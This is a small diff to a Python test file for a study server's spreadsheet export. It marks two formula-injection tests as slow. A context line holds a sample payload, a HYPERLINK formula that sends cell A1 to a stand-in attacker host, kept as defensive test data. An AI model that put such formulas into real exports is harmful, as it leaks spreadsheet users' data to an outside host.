@@ -25,6 +25,7 @@ from study_server.studies.states import find_study, set_state
 COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
+@pytest.mark.slow
 @given(st.text(alphabet="'=+-@\t a1.", max_size=8))
 def test_every_text_comes_back_and_none_is_run(text: str) -> None:
     cell = inert(text)
@@ -51,6 +52,7 @@ def test_cells(value: object, cell: object) -> None:
     assert inert(value) == cell
 
 
+@pytest.mark.slow
 def test_an_export_holds_no_formula_and_its_ids_round_trip(
     sqlite: Database, study_text: str, images: Path, tmp_path: Path
 ) -> None:
